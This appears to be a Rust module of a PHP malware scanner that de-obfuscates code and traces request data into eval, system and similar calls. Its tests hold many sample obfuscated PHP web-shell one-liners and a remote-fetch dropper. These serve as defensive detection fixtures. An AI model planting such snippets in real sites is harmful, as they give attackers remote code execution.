fn thread_file_handles(src: &[u8], text: &mut Vec<u8>) -> bool {
    static OPEN: std::sync::OnceLock<Option<regex::bytes::Regex>> = std::sync::OnceLock::new();
    if memchr::memmem::find(text, b"fwrite").is_none()
        && memchr::memmem::find(text, b"fputs").is_none()
    {
        return false;
    }
    let Some(open) = crate::engine::detect::rules::cached(
        &OPEN,
        r#"(?i)\$([A-Za-z_][A-Za-z0-9_]{0,40})\s*=\s*@?\s*fopen\s*\(\s*('[^'\n]{1,200}'|"[^"\n]{1,200}"|\$_(?:POST|GET|REQUEST|COOKIE)\s*\[[^\]\n]{1,40}\])\s*,\s*['"][wax]"#,
    ) else {
        return false;
    };
    let handles: Vec<(Vec<u8>, Vec<u8>)> = open
        .captures_iter(src)
        .take(64)
        .filter_map(|c| Some((c.get(1)?.as_bytes().to_vec(), c.get(2)?.as_bytes().to_vec())))
        .collect();
    let mut changed = false;
    for (name, path) in handles {
        for call in [&b"fwrite"[..], b"fputs"] {
            let mut from = call.to_vec();
            from.extend_from_slice(b"($");
            from.extend_from_slice(&name);
            from.push(b',');
            if memchr::memmem::find(text, &from).is_none() {
                continue;
            }
            let mut to = call.to_vec();
            to.push(b'(');
            to.extend_from_slice(&path);
            to.push(b',');
            *text = decode::replace_all(text, &from, &to);
            changed = true;
        }
    }
    changed
}

/// A file written back out by [`resolve`].
#[derive(Debug, Clone, PartialEq)]
pub struct Resolved {
    /// The statements in which something could be resolved, resolved (one a line).
    pub text: Vec<u8>,
    /// Whether `text` says anything the source did not say plainly.
    pub changed: bool,
    /// The code as written, without comments: a rule that matches the source but not this
    /// matched a comment (documentation quoting `$_GET['x']`, an example `<iframe>`).
    pub plain: Vec<u8>,
    /// Code handed to `eval`, `assert` or `create_function` was decoded or assembled from a
    /// disguise: code hidden from whoever reads the file, then run.
    pub hidden_code: bool,
    /// A shell-command function was called under a disguised name.
    pub hidden_command: bool,
    /// Something in the file was disguised: findings in `text` are as strong as their rule.
    /// Without a disguise the file only moves request data around in plain sight, as admin
    /// code does too, and findings that only the data flow shows are weaker evidence.
    pub disguised: bool,
}

impl<'t, 'a> Resolver<'t, 'a> {
    /// Reads the tokens `from..to` in order, writing them out. `Body` mode reads a user
    /// function's body for a call: it runs loops over known values and stops at the first
    /// `return`, whose value it gives back.
    fn run(
        &mut self,
        from: usize,
        to: usize,
        mode: Mode,
        w: &mut Writer,
        plain: &mut Writer,
    ) -> Option<Ev> {
        let mut i = from;
        let mut depth = 0usize;
        let mut pending_fn = false;
        let mut no_retry_until = 0usize;
        let mut pending: Option<Pending> = None;
        let base = self.scopes.len();
        while i < to.min(self.toks.len()) && w.out.len() < MAX_OUTPUT {
            if mode == Mode::Body && self.fuel.get() == 0 {
                return Some(Ev::unknown(i));
            }
            if pending.as_ref().is_some_and(|p| i >= p.end) {
                if let Some(p) = pending.take() {
                    self.assign(p);
                }
            }
            // `:` ends a `case …:` label or opens an `if (…):` block too; an assignment in
            // parentheses (`if ($c = gzinflate($c))`, `($f = $_GET['f'])`) is one as well.
            let at_start = i == from
                || matches!(
                    self.tok(i - 1),
                    Some(Tok::Punct(b";" | b"{" | b"}" | b":") | Tok::Html(_))
                )
                || (punct(self.tok(i - 1), b"(")
                    && matches!(self.tok(i), Some(Tok::Var(_)))
                    && punct(self.tok(i + 1), b"="))
                // `@$f = …;` is an assignment too (the `@` was written as it is)
                || (punct(self.tok(i - 1), b"@")
                    && (i == from + 1
                        || matches!(
                            self.tok(i.wrapping_sub(2)),
                            Some(Tok::Punct(b";" | b"{" | b"}" | b":") | Tok::Html(_))
                        )));
            if at_start && pending.is_none() && !pending_fn {
                let body = mode == Mode::Body && self.scopes.len() == base;
                match self.statement(i, body, w, plain) {
                    Start::Return(ev) => return Some(ev),
                    Start::Next(next) => {
                        i = next;
                        continue;
                    }
                    Start::Assigning(next, p) => {
                        pending = Some(p);
                        i = next;
                        continue;
                    }
                    Start::Plain => {}
                }
            }
            self.braces(i, &mut depth, &mut pending_fn);
            let retry = i >= no_retry_until
                || matches!(
                    self.tok(i.wrapping_sub(1)),
                    Some(Tok::Punct(b"(" | b"[" | b"," | b"{"))
                );
            // A function's parameters are its own names, not the caller's values.
            if retry && !pending_fn && self.starts_operand(i) {
                if let Some(next) = self.resolved_at(i, w, &mut no_retry_until) {
                    for k in i..next {
                        self.emit(plain, k);
                    }
                    i = next;
                    continue;
                }
            }
            self.emit(w, i);
            self.emit(plain, i);
            if matches!(
                self.tok(i),
                Some(Tok::Punct(b";" | b"{" | b"}") | Tok::Html(_))
            ) {
                w.end_statement();
            }
            i += 1;
        }
        if let Some(p) = pending.take() {
            self.assign(p);
        }
        None
    }

    /// A statement starting at `i`: an assignment, a declaration, and in a body read for a
    /// call (`body`), a `return` or a loop to run.
    fn statement(&mut self, i: usize, body: bool, w: &mut Writer, plain: &mut Writer) -> Start {
        if body {
            if ident_is(self.tok(i), b"return") {
                return Start::Return(self.expr(i + 1, 0));
            }
            match self.body_loop(i, w, plain) {
                Some(Ok(next)) => return Start::Next(next),
                Some(Err(ret)) => return Start::Return(ret),
                None => {}
            }
        } else if ident_is(self.tok(i), b"foreach") {
            self.foreach_taint(i);
        } else if ident_is(self.tok(i), b"for") && self.scopes.len() <= 1 {
            // A counting loop at the top level (`for ($i = 0; $i < count($a); $i++) $f .= $a[$i];`)
            // is run as in a body: names are assembled that way.
            if let Some(Ok(next)) = self.body_loop(i, w, plain) {
                return Start::Next(next);
            }
        } else if ident_is(self.tok(i), b"extract")
            && punct(self.tok(i + 1), b"(")
            && self.scopes.len() <= 1
        {
            let what = self.expr(i + 2, 0);
            self.extracted |= what.val.taint() == Some(Taint::Request);
        }
        if let Some((rhs, target)) = self.assignment(i) {
            let value = self.expr(rhs, 0);
            if let Target::Var(name) = &target {
                if self.decodes(rhs, value.end) && self.decoded_vars.len() < 10_000 {
                    self.decoded_vars.insert(name.clone());
                }
            }
            let p = Pending {
                end: value.end,
                target,
                val: value.val,
                disguise: value.disguise,
            };
            if w.off && plain.off {
                // Nothing to write (a loop's later turns): only the value matters.
                self.assign(p);
                return Start::Next(value.end.max(i + 1));
            }
            for k in i..rhs {
                self.emit(w, k);
                self.emit(plain, k);
            }
            return Start::Assigning(rhs, p);
        }
        if let Some(next) = self.declaration(i) {
            for k in i..next {
                self.emit(w, k);
                self.emit(plain, k);
            }
            return Start::Next(next);
        }
        Start::Plain
    }

    /// Whether the tokens `from..to` decode something: a decoding function, the file's own
    /// function, or a variable that holds a decoder's result.
    fn decodes(&self, from: usize, to: usize) -> bool {
        (from..to.min(from + 4096)).any(|k| match self.tok(k) {
            Some(Tok::Ident(n)) if punct(self.tok(k + 1), b"(") => {
                decoder(n) || self.fns.function(n).is_some()
            }
            Some(Tok::Var(v)) => self.decoded_vars.contains(*v),
            _ => false,
        })
    }

    /// Follows braces at `i`: a function body opens a scope of its own.
    fn braces(&mut self, i: usize, depth: &mut usize, pending_fn: &mut bool) {
        match self.tok(i) {
            Some(Tok::Ident(n)) if n.eq_ignore_ascii_case(b"function") => *pending_fn = true,
            Some(Tok::Punct(b";")) => *pending_fn = false,
            Some(Tok::Punct(b"{")) => {
                *depth += 1;
                if *pending_fn {
                    *pending_fn = false;
                    self.scopes.push(Scope {
                        depth: *depth,
                        ..Scope::default()
                    });
                }
            }
            Some(Tok::Punct(b"}")) => {
                if self.scopes.len() > 1 && self.scopes.last().is_some_and(|s| s.depth == *depth) {
                    self.scopes.pop();
                }
                *depth = depth.saturating_sub(1);
            }
            _ => {}
        }
    }

    fn assign(&mut self, p: Pending) {
        self.mark(&p.target, p.disguise);
        self.store(&p.target, p.val);
    }

    /// Remembers whether a variable's new value came from a disguise.
    fn mark(&mut self, target: &Target, disguise: bool) {
        let name = match target {
            Target::Var(n) | Target::Append(n) | Target::Element(n, _) => n,
        };
        if disguise {
            if self.disguised_vars.len() < 100_000 {
                self.disguised_vars.insert(name.clone());
            }
        } else if matches!(target, Target::Var(_)) {
            self.disguised_vars.remove(name);
        }
    }

    fn starts_operand(&self, i: usize) -> bool {
        // A `(` right after a name or a value opens arguments, not an expression.
        if punct(self.tok(i), b"(")
            && matches!(
                self.tok(i.wrapping_sub(1)),
                Some(Tok::Ident(_) | Tok::Var(_) | Tok::Punct(b")" | b"]" | b"}"))
            )
        {
            return false;
        }
        matches!(
            self.tok(i),
            Some(
                Tok::Var(_)
                    | Tok::Str(_)
                    | Tok::Num(_)
                    | Tok::Ident(_)
                    | Tok::Interp(..)
                    | Tok::Punct(b"(" | b"$" | b"[" | b"@")
            )
        )
    }

    /// Writes what starts at `i` if something in it resolves: a callee as a bare name, or
    /// a whole expression as its value. Returns where to go on.
    fn resolved_at(
        &mut self,
        i: usize,
        w: &mut Writer,
        no_retry_until: &mut usize,
    ) -> Option<usize> {
        // `@` silences what follows; what follows is read on its own (`@$t['k'](…)`).
        if punct(self.tok(i), b"@") {
            return None;
        }
        let callee = self.callee(i);
        if callee.resolved && punct(self.tok(callee.end), b"(") {
            if let Some(name) = callee.val.as_bytes().filter(|n| is_name(n)) {
                if [&b"eval"[..], b"assert", b"create_function"]
                    .iter()
                    .any(|f| name.eq_ignore_ascii_case(f))
                {
                    // Read the call too: the code it runs is read as PHP in turn.
                    let _ = self.call(&name, callee.end, 0);
                }
                self.hidden_command |= callee.disguise && command_sink(&name);
                w.push(&name);
                w.mark_changed();
                w.disguised = true;
                return Some(callee.end);
            }
            if callee.val.taint().is_some() {
                w.value(&callee.val, false);
                w.mark_changed();
                w.disguised = true;
                return Some(callee.end);
            }
        }
        let ev = self.expr(i, 0);
        if ev.through_call && !ev.val.is_known() {
            return None;
        }
        // What is assigned to is a place, not a value (`if ($c) $s .= 'x';`).
        if matches!(
            self.tok(ev.end),
            Some(Tok::Punct(
                b"=" | b".=" | b"+=" | b"-=" | b"*=" | b"/=" | b"^=" | b"??=" | b"++" | b"--"
            ))
        ) {
            *no_retry_until = (*no_retry_until).max(ev.end);
            return None;
        }
        if ev.resolved && ev.end > i && (ev.val.is_known() || ev.val.taint().is_some()) {
            let as_callee = punct(self.tok(ev.end), b"(");
            // A constant handed to code through a variable (`$c = '…'; eval($c);`) is a
            // disguise too.
            let into_code = punct(self.tok(i.wrapping_sub(1)), b"(")
                && matches!(self.tok(i.wrapping_sub(2)), Some(Tok::Ident(n)) if code_sink(n));
            w.value(&ev.val, as_callee);
            w.mark_changed();
            w.disguised |= ev.disguise || as_callee || into_code;
            return Some(ev.end);
        }
        *no_retry_until = (*no_retry_until).max(ev.end);
        None
    }

    /// An operand without its call: what a `(` after it would call.
    fn callee(&mut self, i: usize) -> Ev {
        if let Some(Tok::Ident(name)) = self.tok(i) {
            return match self.consts.get(*name) {
                Some(v @ Val::Str(_)) => Ev::new(v.clone(), i + 1, true),
                _ => Ev::unknown(i),
            };
        }
        let mut ev = self.primary(i, 0);
        if ev.end == i {
            return ev;
        }
        while matches!(self.tok(ev.end), Some(Tok::Punct(b"[" | b"{"))) {
            let end = ev.end;
            match self.postfix(ev, 1) {
                Ok(next) => ev = next,
                Err(done) => return done,
            }
            if ev.end == end {
                break;
            }
        }
        ev
    }

    fn emit(&self, w: &mut Writer, i: usize) {
        if let Some(t) = self.tok(i) {
            let tainted = |v: &[u8]| self.lookup(v).taint().is_some() && source_var(v).is_none();
            w.token(t, &tainted);
        }
    }
}

impl<'t, 'a> Resolver<'t, 'a> {
    /// An assignment starting at `i`: where its value starts, and what it writes.
    fn assignment(&mut self, i: usize) -> Option<(usize, Target)> {
        let (name, after) = match self.tok(i) {
            Some(Tok::Var(n)) => (n.to_vec(), i + 1),
            Some(Tok::Punct(b"$")) if punct(self.tok(i + 1), b"{") => {
                let inner = self.expr(i + 2, 0);
                if !punct(self.tok(inner.end), b"}") {
                    return None;
                }
                (inner.val.as_bytes()?, inner.end + 1)
            }
            _ => return None,
        };
        match self.tok(after) {
            Some(Tok::Punct(b"=")) => Some((after + 1, Target::Var(name))),
            Some(Tok::Punct(b".=")) => Some((after + 1, Target::Append(name))),
            Some(Tok::Punct(b"[")) if punct(self.tok(after + 1), b"]") => {
                punct(self.tok(after + 2), b"=").then(|| (after + 3, Target::Element(name, None)))
            }
            Some(Tok::Punct(b"[" | b"{")) => {
                let key = self.expr(after + 1, 0);
                let closed = matches!(self.tok(key.end), Some(Tok::Punct(b"]" | b"}")));
                (closed && punct(self.tok(key.end + 1), b"="))
                    .then(|| (key.end + 2, Target::Element(name, Some(key.val))))
            }
            _ => None,
        }
    }

    /// `define('NAME', value)` or `global $a, $b;` at `i`: where the statement ends.
    fn declaration(&mut self, i: usize) -> Option<usize> {
        if ident_is(self.tok(i), b"define") && punct(self.tok(i + 1), b"(") {
            let name = self.expr(i + 2, 0);
            if !punct(self.tok(name.end), b",") {
                return None;
            }
            let value = self.expr(name.end + 1, 0);
            if !punct(self.tok(value.end), b")") {
                return None;
            }
            if let Some(n) = name.val.as_bytes() {
                if self.consts.len() < 10_000 {
                    self.consts.insert(n, value.val);
                }
            }
            return Some(value.end + 1);
        }
        if ident_is(self.tok(i), b"global") {
            let mut k = i + 1;
            while let Some(Tok::Var(v)) = self.tok(k) {
                let v = v.to_vec();
                if let Some(s) = self.scopes.last_mut() {
                    if s.globals.len() < 1_000 {
                        s.globals.push(v);
                    }
                }
                k += 1;
                if !punct(self.tok(k), b",") {
                    break;
                }
                k += 1;
            }
            return Some(k);
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(src: &str) -> String {
        let r = resolve(src.as_bytes()).filter(|r| r.changed);
        String::from_utf8_lossy(&r.map(|r| r.text).unwrap_or_default()).into_owned()
    }

    #[test]
    fn lexes_strings_comments_and_heredocs() {
        let t =
            lex(b"<?php $a = 'x\\'y' /* c */ . \"\\x41\\n\"; # c\n$b = <<<EOT\nhi\nEOT;\n?>tail");
        assert!(t.contains(&Tok::Str(Cow::Borrowed(b"x'y"))));
        assert!(t.contains(&Tok::Str(Cow::Borrowed(b"A\n"))));
        assert!(t.contains(&Tok::Str(Cow::Borrowed(b"hi"))));
        assert_eq!(t.last(), Some(&Tok::Html(b"tail")));
        assert!(!t.iter().any(|x| matches!(x, Tok::Ident(b"c"))));
    }

    #[test]
    fn names_built_from_parts_are_resolved() {
        // concatenation with comments between the parts
        assert!(text("<?php $f = 'sys' /* x */ . 'tem'; $f($_GET['c']);").contains("system($_GET"));
        // offsets into a character table
        let t = text("<?php $t = 'abcdefghijklmnopqrstuvwxyz'; $n = $t{4}.$t[21].$t[0].$t[11]; $n($_POST['x']);");
        assert!(t.contains("eval($_POST"), "{t}");
        // $GLOBALS arrays of hex strings
        let t = text("<?php $GLOBALS['k'] = array(\"\\x62\\x61se64_decode\", 'x'); $GLOBALS['k'][0]('aGk=');");
        assert!(
            t.contains("base64_decode('aGk=')") || t.contains("'hi'"),
            "{t}"
        );
        // str_ireplace scrambling, chr chains, define
        let t = text("<?php $d = str_ireplace('Q', '', 'bQase64_dQecode'); define('E', chr(101).chr(118).'al'); $x = $d('cGhwaW5mbygpOw=='); E($x);");
        assert!(t.contains("eval('phpinfo();')"), "{t}");
    }

    #[test]
    fn request_data_is_followed() {
        let t = text("<?php $h = getenv('HTTP_X_CMD'); $k = 'key'; $d = $h ^ $k; system($d);");
        assert!(t.contains("system($_POST['request'])"), "{t}");
        let t = text("<?php $body = file_get_contents('php://input'); $p = openssl_decrypt($body, 'aes-128-cbc', 'k'); $_SESSION['p'] = $p; eval($p);");
        assert!(t.contains("eval($_POST['request'])"), "{t}");
        let t = text("<?php $c = file_get_contents('https://example.invalid/x.txt'); eval($c);");
        assert!(t.contains("eval(__REMOTE__)"), "{t}");
        // sanitised and local data is not request data
        assert!(
            !text("<?php $id = intval($_GET['id']); $f = 'x'; echo $f($id);").contains("request")
        );
    }

    #[test]
    fn request_data_stays_request_data_through_a_byte_cipher() {
        // An encrypted-channel shell: a cookie, decoded, XORed byte by byte in the file's
        // own function, unserialized, run.
        let t = text("<?php function x($a, $k) { $o = ''; for ($i = 0; $i < strlen($a); $i++) { $o .= chr(ord($a[$i]) ^ ord($k[$i % 4])); } return $o; } foreach ($_COOKIE as $k => $v) { $d = $v; } $m = @unserialize(x(base64_decode($d), 'abcd')); eval($m['d']);");
        assert!(t.contains("eval($_POST['request']"), "{t}");
        // a hex-encoded request, decoded pair by pair
        let t = text("<?php $h = $_POST['p']; for ($i = 0; $i < strlen($h) - 1; $i += 2) { $s .= chr(hexdec($h[$i] . $h[$i + 1])); } @eval($s);");
        assert!(t.contains("eval($_POST['request']"), "{t}");
        // extract() of the request makes every unassigned variable the visitor's
        let t = text("<?php extract($_REQUEST) && @assert(stripslashes($shall));");
        assert!(t.contains("assert(stripslashes($_POST['request'])"), "{t}");
        // an assignment in parentheses is read like one on its own line
        let t = text("<?php if ($c = base64_decode('c3lzdGVt')) { $c($_GET['x']); }");
        assert!(t.contains("system($_GET"), "{t}");
        // a property set from the request, read in a destructor
        let t = text("<?php class O { function __destruct() { $f = 'create_' . 'function'; @$f = $f('', $this->c); return @$f(); } } $o = new O(); @$o->c = &$_POST['t'];");
        assert!(t.contains("create_function('',$_POST['request'])"), "{t}");
        // a name spelled by interpolating a table's letters
        let t = text("<?php $s = array('s', 'y', 't', 'e', 'm'); $f = \"$s[0]$s[1]$s[0]$s[2]$s[3]$s[4]\"; $f($_GET['c']);");
        assert!(t.contains("system($_GET"), "{t}");
        // a dropper writing through a file handle names the file it writes
        let t = text("<?php $c = file_get_contents('http://x.example.invalid/c.txt'); $fo = fopen('cache.php', 'w+'); fwrite($fo, $c); fclose($fo);");
        assert!(t.contains("fwrite('cache.php',__REMOTE__)"), "{t}");
        // the silencing `@` does not hide what a `$GLOBALS` alias calls
        let t = text("<?php $g = $GLOBALS; $GLOBALS['t'] = 'ini_set'; @$g['t']('log_errors', 0);");
        assert!(t.contains("@ini_set('log_errors'"), "{t}");
    }

    #[test]
    fn scopes_and_plain_code_stay_as_they_are() {
        // a function's variables are its own
        let t = text("<?php $f = 'system'; function a() { $f = get_option('x'); $f('ls'); } $g = 'strlen'; $g('x');");
        assert!(!t.contains("system") && t.contains("strlen('x')"), "{t}");
        // nothing to resolve: the text says nothing new
        let r = resolve(b"<?php echo 'hello'; /* $_GET['x'] */ $x = 1 + $y;").unwrap();
        assert!(!r.changed);
        assert_eq!(r.plain, b"echo 'hello';$x=1+$y;".to_vec());
    }

    #[test]
    fn the_files_own_functions_are_read_where_they_are_called() {
        // A method that XORs characters into a name, called on `$this`.
        let t = text("<?php class K { function n() { $a = 'B' ^ \"\\x23\"; $b = 'D' ^ \"\\x37\"; $c = 'h' ^ \"\\x1b\"; $d = 'R' ^ \"\\x37\"; $e = 'H' ^ \"\\x3a\"; $f = 'Y' ^ \"\\x2d\"; return $a.$b.$c.$d.$e.$f; } function go() { $g = $this->n(); $g($_POST['p']); } }");
        assert!(t.contains("assert($_POST"), "{t}");
        // A table decoder: characters of a string at the indexes given, in a foreach.
        let t = text("<?php function h($ix) { $t = 'lavex'; $o = ''; foreach ($ix as $k) { $o .= $t[$k]; } return $o; } $f = h(array(3, 2, 1, 0)); $f($_COOKIE['c']);");
        assert!(t.contains("eval($_COOKIE"), "{t}");
        // A substitution cipher in a counting loop, its result decoded.
        let t = text("<?php function d($s, $m) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($m[$s[$i]]) ? $m[$s[$i]] : $s[$i]; } return base64_decode($o); } eval(d('cGhwaW5mbygpOw==', array('Q' => 'q')));");
        assert!(t.contains("eval('phpinfo();')"), "{t}");
        // Request data handed back by a helper, then decrypted with a key: still request data.
        let t = text("<?php function r($k) { return isset($_COOKIE[$k]) ? $_COOKIE[$k] : @$_POST[$k]; } $v = r('x') ^ 'key'; $c = 'create' . '_function'; $c('', $v);");
        assert!(t.contains("create_function('',$_POST"), "{t}");
        // Parameters are the function's own: a global of the same name does not leak in.
        let t = text("<?php $s = 'system'; function f($s) { return 1; } f(2);");
        assert!(!t.contains("function f('system'"), "{t}");
    }

    #[test]
    fn statements_chained_with_goto_are_read_in_the_order_they_run() {
        let t = text("<?php goto a; c: $f($_POST['x']); goto d; b: $f = $p . 'al'; goto c; a: $p = 'ev'; goto b; d: echo 1;");
        assert!(t.contains("eval($_POST"), "{t}");
        // Jumps inside conditions stay; a hand-written single goto is left alone.
        let t = text("<?php $a = 1; if ($a) { goto x; } x: echo $a;");
        assert!(!t.contains("eval"), "{t}");
    }

    #[test]
    fn code_decoded_and_then_run_is_hidden_code() {
        let hidden = |src: &str| resolve(src.as_bytes()).unwrap().hidden_code;
        assert!(hidden("<?php eval((base64_decode('ZWNobyAxOw==')));"));
        assert!(hidden(
            "<?php $c = str_rot13('rpub 1;'); $e = 'ev' . 'al'; $e($c);"
        ));
        // Code put together from plain pieces is not hidden.
        assert!(!hidden("<?php add_action('n', create_function('', 'echo \"' . \"<div>\" . sprintf('%s', 'x') . '\";'));"));
        assert!(!hidden("<?php eval('echo 1;');"));
    }

    #[test]
    fn hostile_input_is_bounded() {
        let mut s = b"<?php $a = ".to_vec();
        for _ in 0..200_000 {
            s.extend_from_slice(b"$b . ");
        }
        s.extend_from_slice(b"'x'; ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((");
        let t = std::time::Instant::now();
        let _ = resolve(&s);
        let _ = resolve(b"<?php \"unterminated $x");
        let _ = resolve(b"<?php <<<\"EOT");
        assert!(t.elapsed().as_secs() < 5);
    }
}
